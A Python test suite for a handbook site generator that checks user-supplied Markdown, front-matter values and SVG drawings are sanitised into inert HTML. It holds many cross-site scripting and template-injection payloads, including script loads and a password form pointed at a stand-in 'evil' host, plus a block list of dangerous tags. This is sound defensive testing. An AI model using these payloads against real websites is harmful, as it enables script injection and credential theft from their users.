"""Content comes from pull requests: whatever a body or a value says, nothing on a page is live."""

from __future__ import annotations

import datetime as dt
import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from biaochi import demo
from biaochi.core.check import check
from biaochi.core.clauses import read_body
from biaochi.pages.links import SiteLinks
from biaochi.pages.markdown import render_body
from biaochi.pages.publication import publish
from biaochi.pages.settings import Settings
from biaochi.pages.svg import sanitise_svg

AS_OF = dt.date(2026, 11, 22)
OUTCOME = check(demo.handbook(), as_of=AS_OF)
LINKS = SiteLinks.of(OUTCOME.catalogue, frozenset({"standards/x.md", "standards/wait.md"}), "standards/x.md")
FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "form",
    "svg",
    "math",
    "template",
    "video",
    "audio",
    "button",
    "textarea",
    "select",
    "frame",
    "frameset",
    "applet",
    "portal",
    "noscript",
    "html",
    "body",
    "head",
}


class Judge(HTMLParser):
    """Collects everything live."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            # The pages' own controls are known by their class, which no content may carry.
            self.live.append(f"<{tag} {dict(attributes).get('class') or ''}>")
        for name, value in attributes:
            address = re.sub(r"[\x00-\x20\u200b-\u200f]", "", value or "").lower()
            if name.startswith("on") or name in (
                "style",
                "srcdoc",
                "formaction",
                "action",
                "srcset",
                "ping",
                "http-equiv",
            ):
                self.live.append(f"{name}={value}")
            if name in ("href", "src", "xlink:href", "data") and re.match(
                r"(?:javascript|data|vbscript|file|blob):", address
            ):
                self.live.append(f"{name}={value}")
            if name == "src" and re.match(r"(?:[a-z][a-z0-9+.-]*:|[/\\]{2})", address):
                self.live.append(f"{name}={value} asks another host")
            if name == "class" and re.search(r"\b(?:md-|bc-(?!clause\b|mention\b|missing\b|scroll\b|short\b|table\b))", value or ""):
                self.live.append(f"class={value}")
            if (
                name in ("id", "name")
                and (value or "").startswith("__")
                and not re.fullmatch(r"__tabbed_\d+(_\d+)?", value or "")
            ):
                self.live.append(f"{name}={value}")

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attributes)

    def handle_comment(self, data: str) -> None:
        self.live.append("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.live.append(f"<!{decl}>")

    handle_pi = unknown_decl = handle_decl


def live(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.live


def rendered(body: str) -> str:
    return render_body(read_body("standards/x.md", body, 1), LINKS, lambda *t: "题").html


BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="//evil/p.png"> <img src="\\\\evil\\p.png"> <img src=" \t//evil/p.png"> <img src="ht\ntp://evil/p.png">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<base href="https://evil/"><meta http-equiv="refresh" content="0;url=https://evil/"><link rel=stylesheet href=//evil/x.css>',
    '<form action="https://evil/"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
    '<style>@import "//evil/x.css"; * {display: none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<a href="javascript:alert(1)">x</a> <a href=" java\nscript:alert(1)">y</a> <a href="&#106;avascript:alert(1)">z</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a> <a href="vbscript:x">y</a> <a href="blob:x">z</a>',
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](javascript&colon;alert(1)) [x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1)) [x](<java script:alert(1)>) [x](\x01javascript:alert(1)) [x](javascript\u200b:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](https://evil/p.png)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "文字 {#x onclick=alert(1) onmouseover=alert(2)}",
    "文字\n{: onclick=alert(1) style=color:red .md-header .bc-banner }",
    "# 标题 {onclick=alert(1) .md-header__title}",
    "**粗**{onclick=alert(1) style=x} [x](y){onclick=alert(1) target=_top}",
    "```{.python onclick=alert(1) style=x}\nx\n```",
    '```python {onclick="alert(1)"}\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '??? tip "<script>alert(1)</script>"\n    x',
    '=== "<img src=x onerror=alert(1)>"\n    x',
    "*[X]: <script>alert(1)</script>\n\nX",
    '*[X]: " onmouseover="alert(1)\n\nX',
    "<!-- 注释 <script>alert(1)</script> --><!--[if IE]><script>alert(1)</script><![endif]-->",
    '<div id="__search" class="md-search md-overlay bc-banner bc-status"><input id="__drawer" type="checkbox" checked></div>',
    '<a id="__md_scope" name="__md_get">x</a>',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)> <input type=text autofocus onfocus=alert(1)>",
    "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "[[DEMO-WAIT|<img src=x onerror=alert(1)>]]",
    "[[DEMO-NOWHERE|<script>alert(1)</script>]]",
    "<div markdown onclick=alert(1)>\n<script>alert(1)</script>\n</div>",
    "- 甲 <img src=x onerror=alert(1)> {#a}",
    '<p title="\ue000before:a\ue001">x</p>\n\n甲 {#a}',
]


@pytest.mark.parametrize("body", BODIES)
def test_nothing_in_a_body_is_live(body: str) -> None:
    html = rendered(body)
    assert live(html) == [], html


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([piece for body in BODIES for piece in re.split(r"(\W)", body)]), max_size=40
    ).map("".join)
)
def test_no_mixture_of_the_pieces_is_live(body: str) -> None:
    assert live(rendered(body)) == []


@pytest.mark.parametrize(
    "expression", ["{{ 7*7 }}", "{% include 'x' %}", "{# x #}", "{{config}}", "${7*7}", "<%= 7*7 %>"]
)
def test_template_expressions_stay_text(expression: str) -> None:
    assert "49" not in rendered(f"甲 {expression} 乙")
    assert "甲" in rendered(f"甲 {expression} 乙")


HOSTILE = "\"><script>alert(1)</script><img src=x onerror=alert(2)>'{{7*7}}{% raw %}"
QUOTED = json.dumps(HOSTILE)


@pytest.mark.parametrize(
    "change",
    [
        "title: {q}",
        "touchpoint: {q}",
        "tags: [{q}]",
        "sector: {q}",
        "roles: [{q}]",
        "owner: {q}",
        "status: {q}",
        "version: {q}",
        "metrics.wait.name: {q}",
        "metrics.wait.definition: {q}",
        "metrics.wait.source: {q}",
        "metrics.wait.exclusions: [{q}]",
        "metrics.wait.unit: {q}",
        "metrics.wait.benchmarks: [{{org: {q}, value: {q}, source: {q}, checked: 2026-01-01}}]",
        "promises.wait-10.text: {q}",
        "promises.wait-10.remedy: {q}",
        "promises.wait-10.channels: [{q}]",
        "promises.wait-10.extra: [{q}]",
        "basis: [{{type: {q}, method: {q}, source: {q}, finding: {q}}}]",
        "pilot.adjustments: [{q}]",
        "pilot.sites: [{q}]",
        "changes: [{{version: 1.1, date: 2026-05-20, reason: {q}, summary: {q}, approved_by: {q}}}]",
        "sources: [{{title: {q}, edition: {q}}}, {{seed: {q}}}]",
        "x-note: {q}",
        "tier: choice\noptions: [{q}]",
        "waivers: [{{rule: {q}, reason: {q}, until: 2027-01-01, approved_by: {q}}}]",
        "DEMO-SERVE.steps.greet.name: {q}",
        "DEMO-SERVE.steps.greet.does: {q}",
        "DEMO-SERVE.steps.serve.next: [{{to: {q}, when: {q}}}]",
        "DEMO-SERVE.trigger: {q}",
        "DEMO-LADDER.tiers.0.authority: {q}",
        "DEMO-FIRE.plan.levels: [{{name: {q}, when: {q}}}]",
        "DEMO-GREET.scene: {q}",
        "DEMO-GREET.must_say: [{q}]",
        "DEMO-GREET.variables: {{{q}: {q}}}",
        "DEMO-CARD.items.tidy.text: {q}",
        "DEMO-CARD.when: {q}",
        "DEMO-CARD.items.tidy.pass: {q}",
        "DEMO-CARD.items.tidy.id: {q}",
        "DEMO-TRAIN.phases: [{{form: {q}, duration: 1 天}}]",
        "DEMO-TRAIN.assessment: {{method: {q}, pass: {q}}}",
        "DEMO-FIX.problem: {q}",
        "DEMO-FIX.causes: [{q}]",
        "DEMO-FIX.actions: [{{does: {q}, owner: {q}, due: 2026-01-01}}]",
    ],
)
def test_no_value_of_front_matter_is_live(change: str) -> None:
    outcome = check(demo.changed(change.format(q=QUOTED)), as_of=AS_OF)
    pages = publish(outcome, Settings(), findings=True).pages
    for page in pages.values():
        if "alert" in page.html or "49" in page.html:
            assert [found for found in live(page.html) if "bc-" not in found and "svg" not in found] == [], (
                page.path
            )


def test_no_value_of_a_registry_is_live() -> None:
    texts = demo.handbook()
    texts["standards/roles.yml"] += f"evil: {{name: {QUOTED}, department: {QUOTED}}}\n"
    texts["standards/terms.yml"] += f"\n{QUOTED}: {{definition: {QUOTED}, synonyms: [{QUOTED}]}}\n"
    texts["standards/journeys.yml"] = f"common: [到店, 服务, 离店, {QUOTED}]\n"
    for page in publish(check(texts, as_of=AS_OF), Settings()).pages.values():
        assert [found for found in live(page.html) if "bc-" not in found and "svg" not in found] == [], (
            page.path
        )


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<rect onclick="alert(1)"/>',
        '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
        '<use href="https://evil/x.svg#a"/>',
        '<use xlink:href="data:image/svg+xml,x"/>',
        '<image href="https://evil/p.png"/>',
        "<style>@import 'https://evil/x.css'</style>",
        '<rect style="fill:url(https://evil/x)"/>',
        '<rect fill="url(https://evil/x)"/>',
        "<animate attributeName='href' to='javascript:alert(1)'/>",
        "<set attributeName='onclick' to='alert(1)'/>",
        '<rect fill="URL(https://evil/x)"/>',
        r'<rect fill="u\72l(https://evil/x)"/>',
        '<use href=" javascript:alert(1)"/>',
        "<handler xmlns='http://www.w3.org/2001/xml-events'>x</handler>",
    ],
)
def test_a_drawing_keeps_its_shapes_and_nothing_else(inside: str) -> None:
    clean = sanitise_svg(SVG.format(inside + '<circle r="4" fill="red"/><text>字</text>').encode())
    assert clean is not None
    text = clean.decode()
    assert not re.search(
        r"script|onclick|onload|evil|style|foreign|animate|<set|handler|<image", text, re.I
    ), text
    assert '<circle r="4" fill="red"' in text and "字" in text


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"no",
        b"<html/>",
        SVG.format("<rect>").encode(),
        b'<!DOCTYPE svg [<!ENTITY a "b">]>' + SVG.format("&a;").encode(),
        SVG.format("<g>" * 5000 + "</g>" * 5000).encode(),
        SVG.format("<g/>" * 30_000).encode(),
        (
            '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE svg [<!ENTITY a "b">]>' + SVG.format("&a;")
        ).encode("utf-16"),
    ],
)
def test_what_is_no_plain_drawing_is_not_published(data: bytes) -> None:
    assert sanitise_svg(data) is None


def test_local_references_of_a_drawing_survive() -> None:
    inside = '<defs><linearGradient id="g"/></defs><rect fill="url(#g)"/><use href="#g"/>'
    clean = sanitise_svg(SVG.format(inside).encode())
    assert clean is not None and b"url(#g)" in clean and b'href="#g"' in clean
